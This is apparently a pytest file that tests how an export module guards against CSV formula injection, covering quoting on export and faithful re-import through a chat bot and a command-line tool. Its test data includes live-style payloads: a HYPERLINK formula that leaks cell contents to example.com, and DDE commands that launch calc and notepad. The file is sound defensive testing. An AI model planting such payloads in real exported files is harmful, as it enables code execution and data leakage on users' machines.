"""Formula injection («CSV injection»): every export quotes a cell that a spreadsheet would run, and our
importer reads the quoted cell back as it was typed."""
import csv
import io

import pytest
from sqlmodel import select

from program.catastro_csv import parse_catastro
from program.csv_export import DANGEROUS_STARTS, safe_cell, write_csv
from program.csv_file import decode, read_table, strip_formula_guard
from storage.catastro import CatastroEntry
from tests.e2e.test_catastro import (
    GESTOR,
    HEADER,
    _cli,
    _gestor,
    _import,
    cli_env,  # noqa: F401 (fixture)
)

DANGEROUS = {  # column -> what a person (or an attacker with edit rights) typed
    "nombre": '=HYPERLINK("http://example.com/x?"&A1,"Ver")',
    "persona_contacto": "@SUM(1+1)*cmd|' /C calc'!A0",
    "direccion": "-2+3+cmd|' /C notepad'!A0",
    "telefonos": "+56 2 2345 6789",  # OWASP's rule quotes phone numbers too; the import restores them
    "tematica": "'=ya con comilla",  # a person's own quote before a formula survives the round trip
    "email_web": "'simple quote, left alone",
}


def _dangerous_csv() -> str:
    """An exported file (guarded cells): imported, it stores exactly the DANGEROUS values."""
    columns = HEADER.strip().split(";")
    return write_csv([columns, [DANGEROUS.get(column, "") for column in columns]], delimiter=";")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _check_export(data: bytes) -> None:
    rows = _cells(data)
    assert rows[0][0] == "nombre"
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [c for c in cells if c and c[0] in DANGEROUS_STARTS]  # nothing a spreadsheet runs
    assert "'" + DANGEROUS["nombre"] in cells and "'+56 2 2345 6789" in cells and "''=ya con comilla" in cells
    assert DANGEROUS["email_web"] in cells
    [row] = parse_catastro(decode(data))[0]  # read back by our own importer: as typed
    assert (row.data.name, row.data.contact_person, row.data.address, row.data.phones, row.data.theme,
            row.data.email_web) == (DANGEROUS["nombre"], DANGEROUS["persona_contacto"], DANGEROUS["direccion"],
                                    DANGEROUS["telefonos"], DANGEROUS["tematica"], DANGEROUS["email_web"])


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''+1"])
def test_a_cell_a_spreadsheet_would_run_is_quoted_and_read_back(value):
    assert safe_cell(value) == "'" + value
    assert strip_formula_guard(safe_cell(value)) == value
    text = write_csv([["a"], [value]], delimiter=";")
    [(_line, row, _extra)] = read_table(text).rows
    assert row == {"a": value}


@pytest.mark.parametrize("value", ["Calle 1", "", "'texto", "1-2", "a=b", "'", "''", " =1"])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value and strip_formula_guard(value) == value


def test_a_long_run_of_quotes_does_not_recurse():
    assert safe_cell("'" * 5000 + "=1") == "'" * 5001 + "=1"


async def test_the_chat_export_is_formula_safe_and_imports_back(harness, session_factory, clock):
    unit, _gestor_row = await _gestor(harness, session_factory, clock)
    await _import(session_factory, clock, unit.unit_id, _dangerous_csv())
    async with session_factory() as session:
        [entry] = (await session.exec(select(CatastroEntry))).all()
    assert (entry.name, entry.theme, entry.phones) == (DANGEROUS["nombre"], DANGEROUS["tematica"], "+56 2 2345 6789")
    await harness.tap(GESTOR, "Catastro")
    await harness.tap(GESTOR, "Exportar")
    [sent] = harness.api.requests("sendDocument", chat_id=GESTOR)
    _check_export(sent.params["document"].data)


def test_the_command_line_export_is_formula_safe_and_imports_back(cli_env, capsys):  # noqa: F811
    assert _cli(["unit-create", "--comuna", "Conchalí", "--name", "UIF Conchalí"], capsys)[0] == 0
    (cli_env / "peligroso.csv").write_text(_dangerous_csv(), encoding="utf-8")
    assert _cli(["catastro-import", "--unit", "1", str(cli_env / "peligroso.csv")], capsys)[0] == 0
    assert _cli(["catastro-export", "--unit", "1", str(cli_env / "salida.csv")], capsys)[0] == 0
    _check_export((cli_env / "salida.csv").read_bytes())
    status, out, _err = _cli(["catastro-import", "--unit", "1", str(cli_env / "salida.csv")], capsys)
    assert status == 0 and "0 nuevas, 0 actualizadas, 1 sin cambios" in out
